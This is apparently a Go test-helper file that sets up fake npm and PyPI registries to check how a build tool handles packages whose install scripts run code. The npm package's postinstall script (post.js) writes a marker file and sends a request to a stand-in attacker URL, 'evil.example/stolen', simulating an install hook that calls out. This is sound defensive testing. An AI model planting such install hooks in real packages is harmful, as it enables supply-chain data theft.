package packages

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/bobbinhq/bobbin/repo/build/packages/packagestest"
)

const registryHost = packagestest.Host

// A registry is the fake network of packagestest with an npm registry and a Python index.
type registry struct{ *packagestest.Registry }

func newRegistry(t *testing.T) registry {
	t.Helper()
	r := registry{packagestest.New(t)}
	r.addNode(t, "1.0.0")
	r.addPython(t, "1.0.0")
	return r
}

// goFiles returns a module that requires another module, and a file that is not a manifest.
func goFiles() files {
	tree := files(packagestest.Files())
	tree["run.sh"] = "echo what is no manifest is not seen\n"
	return tree
}

// nodePackage returns the archive and the integrity of left-shop, whose postinstall script tries to reach
// another host.
func nodePackage(t *testing.T, version string) (archive []byte, integrity string) {
	t.Helper()
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	w := tar.NewWriter(z)
	for _, f := range [][2]string{
		{"package/package.json", `{"name":"left-shop","version":"` + version + `","main":"index.js","scripts":{"postinstall":"node post.js"}}`},
		{"package/index.js", "module.exports = 'hello' + '" + strings.TrimPrefix(version, "1.0.0") + "';\n"},
		{"package/post.js", "require('fs').writeFileSync(process.env.PACKAGES + '/go/ran', 'x');\nconst r = require('http').request({host: '127.0.0.1', port: new URL(process.env.HTTP_PROXY).port, path: 'http://evil.example/stolen'}, () => process.exit(0));\nr.on('error', () => process.exit(0));\nr.end();\n"},
	} {
		require.NoError(t, w.WriteHeader(&tar.Header{Name: f[0], Mode: 0o644, Size: int64(len(f[1]))}))
		_, _ = w.Write([]byte(f[1]))
	}
	require.NoError(t, errors.Join(w.Close(), z.Close()))
	h := sha512.Sum512(out.Bytes())
	return out.Bytes(), "sha512-" + base64.StdEncoding.EncodeToString(h[:])
}

// addNode serves these versions of left-shop; the last one is the latest.
func (r registry) addNode(t *testing.T, versions ...string) {
	t.Helper()
	all := map[string]any{}
	for _, v := range versions {
		archive, integrity := nodePackage(t, v)
		file := "/npm/left-shop/-/left-shop-" + v + ".tgz"
		r.Give(file, archive)
		all[v] = map[string]any{"name": "left-shop", "version": v, "dist": map[string]string{"tarball": "http://" + registryHost + file, "integrity": integrity}}
	}
	about, err := json.Marshal(map[string]any{"name": "left-shop", "dist-tags": map[string]string{"latest": versions[len(versions)-1]}, "versions": all})
	require.NoError(t, err)
	r.Give("/npm/left-shop", about)
}

func nodeFiles(t *testing.T, dir string) files {
	t.Helper()
	_, integrity := nodePackage(t, "1.0.0")
	lock := map[string]any{
		"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
		"packages": map[string]any{
			"": map[string]any{"name": "shop", "version": "1.0.0", "dependencies": map[string]string{"left-shop": "1.0.0"}},
			"node_modules/left-shop": map[string]any{
				"version": "1.0.0", "resolved": "http://" + registryHost + "/npm/left-shop/-/left-shop-1.0.0.tgz", "integrity": integrity, "hasInstallScript": true,
			},
		},
	}
	text, err := json.Marshal(lock)
	require.NoError(t, err)
	return files{
		dir + "package.json":      `{"name":"shop","version":"1.0.0","dependencies":{"left-shop":"1.0.0"},"scripts":{"test":"node --test","preinstall":"touch /packages/go/ran"}}`,
		dir + "package-lock.json": string(text),
		dir + "index.js":          "console.log(require('left-shop'));\n",
	}
}

// addPython serves these versions of left_shop as wheels, and old_shop as a source archive that must run code
// to be installed.
func (r registry) addPython(t *testing.T, versions ...string) {
	t.Helper()
	page := func(links ...string) []byte {
		return []byte("<!DOCTYPE html><html><body>" + strings.Join(links, "\n") + "</body></html>")
	}
	var links []string
	for _, v := range versions {
		wheel, name := pythonWheel(t, v), "left_shop-"+v+"-py3-none-any.whl"
		r.Give("/pypi/"+name, wheel)
		links = append(links, fmt.Sprintf(`<a href="../%s#sha256=%x">%s</a>`, name, sha256.Sum256(wheel), name))
	}
	r.Give("/pypi/left-shop/", page(links...))

	var source bytes.Buffer
	gz := gzip.NewWriter(&source)
	tw := tar.NewWriter(gz)
	text := "import os, pathlib\npathlib.Path(os.environ['PACKAGES'] + '/go/ran').write_text('x')\nfrom setuptools import setup\nsetup(name='old-shop', version='1.0.0')\n"
	require.NoError(t, tw.WriteHeader(&tar.Header{Name: "old_shop-1.0.0/setup.py", Mode: 0o644, Size: int64(len(text))}))
	_, _ = tw.Write([]byte(text))
	require.NoError(t, errors.Join(tw.Close(), gz.Close()))
	r.Give("/pypi/old_shop-1.0.0.tar.gz", source.Bytes())
	r.Give("/pypi/old-shop/", page(`<a href="../old_shop-1.0.0.tar.gz">old_shop-1.0.0.tar.gz</a>`))
}

func pythonWheel(t *testing.T, version string) []byte {
	t.Helper()
	var wheel bytes.Buffer
	z := zip.NewWriter(&wheel)
	var record strings.Builder
	about := "left_shop-" + version + ".dist-info/"
	for _, f := range [][2]string{
		{"left_shop/__init__.py", "HELLO = 'hello" + strings.TrimPrefix(version, "1.0.0") + "'\n\ndef main():\n    print(HELLO)\n"},
		{about + "entry_points.txt", "[console_scripts]\nleft-shop = left_shop:main\n"},
		{about + "METADATA", "Metadata-Version: 2.1\nName: left-shop\nVersion: " + version + "\n"},
		{about + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
	} {
		w, err := z.Create(f[0])
		require.NoError(t, err)
		_, _ = w.Write([]byte(f[1]))
		h := sha256.Sum256([]byte(f[1]))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f[0], base64.RawURLEncoding.EncodeToString(h[:]), len(f[1]))
	}
	w, err := z.Create(about + "RECORD")
	require.NoError(t, err)
	_, _ = w.Write([]byte(record.String() + about + "RECORD,,\n"))
	require.NoError(t, z.Close())
	return wheel.Bytes()
}

// mirrors returns the environment with which an operator configures the fake registries.
func mirrors() []string {
	return append(packagestest.Mirrors(), "npm_config_registry=http://"+registryHost+"/npm/",
		"PIP_INDEX_URL=http://"+registryHost+"/pypi/", "PIP_TRUSTED_HOST="+registryHost)
}
